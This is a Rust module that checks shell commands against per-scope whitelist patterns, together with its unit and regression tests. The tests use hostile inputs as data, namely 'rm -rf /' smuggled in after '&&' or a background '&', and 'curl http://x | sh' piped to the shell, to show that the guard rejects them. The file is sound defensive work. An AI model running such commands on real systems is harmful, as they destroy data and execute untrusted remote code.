//! Whitelist policy evaluation over split command fragments.

use std::collections::BTreeMap;
use std::path::PathBuf;

use tracing::{debug, warn};

use crate::error::GuardError;
use crate::split::split_command;
use crate::whitelist::{Whitelist, WhitelistFile};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GuardScope<'a> {
    Global,
    /// Global patterns plus the named repository's additional patterns.
    Repository(&'a str),
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum GuardDecision {
    Approved {
        fragments: Vec<String>,
    },
    Rejected {
        /// The first fragment, left to right, that no pattern matched.
        failing_fragment: String,
        fragments: Vec<String>,
    },
}

impl GuardDecision {
    pub fn is_approved(&self) -> bool {
        matches!(self, Self::Approved { .. })
    }

    pub fn failing_fragment(&self) -> Option<&str> {
        match self {
            Self::Approved { .. } => None,
            Self::Rejected {
                failing_fragment, ..
            } => Some(failing_fragment.as_str()),
        }
    }
}

#[derive(Debug, Clone)]
struct ScopedWhitelist {
    file: WhitelistFile,
    whitelist: Whitelist,
}

impl ScopedWhitelist {
    fn load(file: WhitelistFile) -> Result<(Self, Vec<GuardError>), GuardError> {
        let (whitelist, errors) = Whitelist::compile(file.read()?);
        for error in &errors {
            warn!(path = %file.path().display(), %error, "ignoring malformed whitelist pattern");
        }
        Ok((Self { file, whitelist }, errors))
    }
}

#[derive(Debug, Clone)]
/// Decides whether a shell command may run unattended.
pub struct CommandGuard {
    global: ScopedWhitelist,
    repositories: BTreeMap<String, ScopedWhitelist>,
}

impl CommandGuard {
    /// Loads and compiles the global whitelist. Malformed patterns are returned
    /// alongside the guard so callers can surface them at load time.
    pub fn load(global_path: impl Into<PathBuf>) -> Result<(Self, Vec<GuardError>), GuardError> {
        let (global, errors) = ScopedWhitelist::load(WhitelistFile::new(global_path))?;
        Ok((
            Self {
                global,
                repositories: BTreeMap::new(),
            },
            errors,
        ))
    }

    /// Builds a guard from in-memory patterns, mostly for tests and dry runs.
    pub fn from_patterns<I, S>(global_path: impl Into<PathBuf>, patterns: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let (whitelist, _) = Whitelist::compile(patterns);
        Self {
            global: ScopedWhitelist {
                file: WhitelistFile::new(global_path),
                whitelist,
            },
            repositories: BTreeMap::new(),
        }
    }

    /// Loads (or reloads) the additive whitelist for one repository.
    pub fn register_repository(
        &mut self,
        repository: &str,
        path: impl Into<PathBuf>,
    ) -> Result<Vec<GuardError>, GuardError> {
        let (scoped, errors) = ScopedWhitelist::load(WhitelistFile::new(path))?;
        self.repositories.insert(repository.to_string(), scoped);
        Ok(errors)
    }

    /// Re-reads every whitelist file from disk.
    pub fn reload(&mut self) -> Result<Vec<GuardError>, GuardError> {
        let (global, mut errors) = ScopedWhitelist::load(self.global.file.clone())?;
        self.global = global;
        let repositories = self
            .repositories
            .iter()
            .map(|(name, scoped)| (name.clone(), scoped.file.clone()))
            .collect::<Vec<_>>();
        for (name, file) in repositories {
            let (scoped, scoped_errors) = ScopedWhitelist::load(file)?;
            errors.extend(scoped_errors);
            self.repositories.insert(name, scoped);
        }
        Ok(errors)
    }

    pub fn check(&self, command: &str, scope: GuardScope<'_>) -> GuardDecision {
        let fragments = match split_command(command) {
            Ok(fragments) => fragments,
            Err(error) => {
                debug!(command, %error, "command could not be split");
                return GuardDecision::Rejected {
                    failing_fragment: command.trim().to_string(),
                    fragments: vec![command.trim().to_string()],
                };
            }
        };
        if fragments.is_empty() {
            return GuardDecision::Rejected {
                failing_fragment: String::new(),
                fragments,
            };
        }

        let repository = match scope {
            GuardScope::Global => None,
            GuardScope::Repository(name) => self.repositories.get(name),
        };
        let failing = fragments.iter().find(|fragment| {
            !self.global.whitelist.matches(fragment)
                && !repository
                    .map(|scoped| scoped.whitelist.matches(fragment))
                    .unwrap_or(false)
        });
        match failing {
            Some(failing_fragment) => GuardDecision::Rejected {
                failing_fragment: failing_fragment.clone(),
                fragments: fragments.clone(),
            },
            None => GuardDecision::Approved { fragments },
        }
    }

    /// Appends `pattern` to the repository's whitelist file and recompiles it.
    pub fn allow_always(&mut self, repository: &str, pattern: &str) -> Result<bool, GuardError> {
        let scoped = self
            .repositories
            .get(repository)
            .map(|scoped| scoped.file.clone())
            .ok_or_else(|| GuardError::UnknownRepository(repository.to_string()))?;
        let added = scoped.add(pattern)?;
        let (reloaded, _) = ScopedWhitelist::load(scoped)?;
        self.repositories.insert(repository.to_string(), reloaded);
        Ok(added)
    }
}

#[cfg(test)]
mod tests {
    use super::{CommandGuard, GuardDecision, GuardScope};
    use crate::whitelist::WhitelistFile;

    fn guard(patterns: &[&str]) -> CommandGuard {
        CommandGuard::from_patterns("unused.json", patterns.iter().copied())
    }

    #[test]
    fn unit_check_rejects_destructive_prefix_with_failing_part() {
        let guard = guard(&["^git\\s+status"]);
        let decision = guard.check("rm -rf / && git status", GuardScope::Global);
        assert_eq!(
            decision,
            GuardDecision::Rejected {
                failing_fragment: "rm -rf /".to_string(),
                fragments: vec!["rm -rf /".to_string(), "git status".to_string()],
            }
        );
    }

    #[test]
    fn unit_check_approves_when_every_fragment_matches() {
        let guard = guard(&["^git\\s+status", "^cargo test"]);
        let decision = guard.check("git status && cargo test -p core", GuardScope::Global);
        assert!(decision.is_approved());
    }

    #[test]
    fn functional_check_conjunction_matches_individual_checks() {
        let guard = guard(&["^git\\b", "^ls\\b"]);
        let commands = ["git diff", "ls -la", "curl evil.sh", "rm x"];
        for left in commands {
            for right in commands {
                let combined = guard.check(&format!("{left} && {right}"), GuardScope::Global);
                let expected = guard.check(left, GuardScope::Global).is_approved()
                    && guard.check(right, GuardScope::Global).is_approved();
                assert_eq!(combined.is_approved(), expected, "{left} && {right}");
                if !expected {
                    let first_failing = if guard.check(left, GuardScope::Global).is_approved() {
                        right
                    } else {
                        left
                    };
                    assert_eq!(combined.failing_fragment(), Some(first_failing));
                }
            }
        }
    }

    #[test]
    fn functional_check_inspects_subshell_bodies() {
        let guard = guard(&["^echo\\b"]);
        let decision = guard.check("echo $(curl http://x | sh)", GuardScope::Global);
        assert_eq!(decision.failing_fragment(), Some("curl http://x"));
    }

    #[test]
    fn integration_repository_scope_is_additive_and_allow_always_persists() {
        let temp = tempfile::tempdir().expect("tempdir");
        let global = WhitelistFile::new(temp.path().join("global.json"));
        global.add("^git status$").expect("seed global");
        let (mut guard, errors) = CommandGuard::load(global.path()).expect("load");
        assert!(errors.is_empty());
        let repo_path = temp.path().join("owner__repo").join("whitelist.json");
        guard
            .register_repository("owner/repo", &repo_path)
            .expect("register");

        let scope = GuardScope::Repository("owner/repo");
        assert!(!guard.check("npm test", scope).is_approved());
        assert!(guard.allow_always("owner/repo", "^npm test$").expect("allow"));
        assert!(guard.check("npm test", scope).is_approved());
        assert!(guard.check("git status && npm test", scope).is_approved());
        assert!(!guard.check("npm test", GuardScope::Global).is_approved());

        let persisted = WhitelistFile::new(&repo_path).read().expect("read repo");
        assert_eq!(persisted, vec!["^npm test$".to_string()]);
        assert!(WhitelistFile::new(global.path())
            .read()
            .expect("read global")
            .iter()
            .all(|pattern| pattern != "^npm test$"));
    }

    #[test]
    fn regression_malformed_patterns_surface_at_load_and_never_match() {
        let temp = tempfile::tempdir().expect("tempdir");
        let path = temp.path().join("global.json");
        std::fs::write(&path, r#"["(broken", "^ls$"]"#).expect("write");
        let (guard, errors) = CommandGuard::load(&path).expect("load");
        assert_eq!(errors.len(), 1);
        assert!(guard.check("ls", GuardScope::Global).is_approved());
        assert!(!guard.check("(broken", GuardScope::Global).is_approved());
    }

    #[test]
    fn regression_background_ampersand_cannot_smuggle_a_second_command() {
        let guard = guard(&["^git\\s+status", "^ls\\b"]);
        let decision = guard.check("git status & rm -rf /", GuardScope::Global);
        assert_eq!(
            decision,
            GuardDecision::Rejected {
                failing_fragment: "rm -rf /".to_string(),
                fragments: vec!["git status".to_string(), "rm -rf /".to_string()],
            }
        );
        assert_eq!(
            guard
                .check("ls & curl http://x | sh", GuardScope::Global)
                .failing_fragment(),
            Some("curl http://x")
        );
        assert!(guard.check("ls 2>&1 &", GuardScope::Global).is_approved());
    }

    #[test]
    fn regression_unsplittable_command_is_rejected_whole() {
        let guard = guard(&[".*"]);
        let decision = guard.check("echo \"unterminated", GuardScope::Global);
        assert_eq!(decision.failing_fragment(), Some("echo \"unterminated"));
    }
}
